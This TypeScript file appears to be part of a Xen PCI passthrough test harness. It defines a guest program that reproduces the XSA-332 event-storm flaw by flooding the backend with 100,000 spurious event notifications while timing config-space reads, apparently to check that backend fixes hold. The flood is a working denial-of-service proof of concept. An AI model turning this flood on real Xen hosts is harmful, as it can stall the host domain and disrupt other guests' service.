// SPDX-License-Identifier: MIT
/**
 * Guest program `attack:xsa332` (XSA-332 / CVE-2020-27673, pciback-fixes P5): an event
 * storm. The guest notifies the backend many times with `XEN_PCIF_active` clear (nothing
 * to do: each event should end in a spurious late EOI and growing unmask delays), and
 * interleaves a few real config reads to check that it is still served. Reports counts
 * and op latencies; the backend side (spurious counters, delays) is visible in dom0.
 */
import { ProgramLog, latencyStats, scan, type LatencyStats } from './common.js';
import type { GuestProgram, GuestProgramEnv, ProgramReport } from './types.js';

/** Options of {@link createXsa332Program}. */
export interface Xsa332Options {
  /** Events to send (default 100000). */
  events?: number;
  /** Real ops interleaved in the flood (default 10). */
  probes?: number;
}

/** Makes an `attack:xsa332` program with its own sizes. */
export function createXsa332Program(options: Xsa332Options = {}): GuestProgram {
  const events = options.events ?? 100_000;
  const probes = Math.max(1, options.probes ?? 10);
  return (env: GuestProgramEnv): Promise<ProgramReport> => {
    const log = new ProgramLog(env);
    const scanned = scan(env);
    const device = scanned.devices[0];
    if (scanned.error !== undefined || device === undefined) {
      const why = scanned.error ?? 'attack:xsa332: no device to probe';
      return Promise.resolve(log.report('attack:xsa332', false, why, {}));
    }
    const front = env.front;
    const probe = (into: number[]): boolean => {
      const r = front.doPciOp({
        cmd: 0,
        domain: device.domain,
        bus: device.bus,
        devfn: device.devfn,
        offset: 0,
        size: 4,
      });
      into.push(r.latencyMs);
      return !r.timedOut && r.err === 0 && (r.value & 0xffff) === device.vendorId;
    };
    const before: number[] = [];
    const during: number[] = [];
    const after: number[] = [];
    let probeFailures = 0;
    for (let i = 0; i < 5; i++) if (!probe(before)) probeFailures += 1;

    let sent = 0;
    let notifyErrors = 0;
    const chunk = Math.max(1, Math.floor(events / probes));
    while (sent < events) {
      const n = Math.min(chunk, events - sent);
      for (let i = 0; i < n; i++) {
        // XEN_PCIF_active is clear: these events carry no request.
        if (env.hv.notify(front.eventPort) !== 0) notifyErrors += 1;
      }
      sent += n;
      if (!probe(during)) probeFailures += 1;
    }
    for (let i = 0; i < 5; i++) if (!probe(after)) probeFailures += 1;

    const stats: Record<string, LatencyStats> = {
      before: latencyStats(before),
      during: latencyStats(during),
      after: latencyStats(after),
    };
    for (const [phase, s] of Object.entries(stats)) {
      log.line(
        `${phase}: ${s.count} op(s), latency min ${s.minMs} ms, median ${s.medianMs} ms, max ${s.maxMs} ms`,
      );
    }
    const served = before.length + during.length + after.length - probeFailures;
    const ok = probeFailures === 0;
    return Promise.resolve(
      log.report(
        'attack:xsa332',
        ok,
        `attack:xsa332: ${sent} spurious event(s) sent (${notifyErrors} refused), ` +
          `${served}/${before.length + during.length + after.length} op(s) served`,
        { target: device.address, eventsSent: sent, notifyErrors, probeFailures, latency: stats },
      ),
    );
  };
}

/** `attack:xsa332` with the default sizes (100000 events, 10 interleaved ops). */
export const xsa332Program: GuestProgram = createXsa332Program();
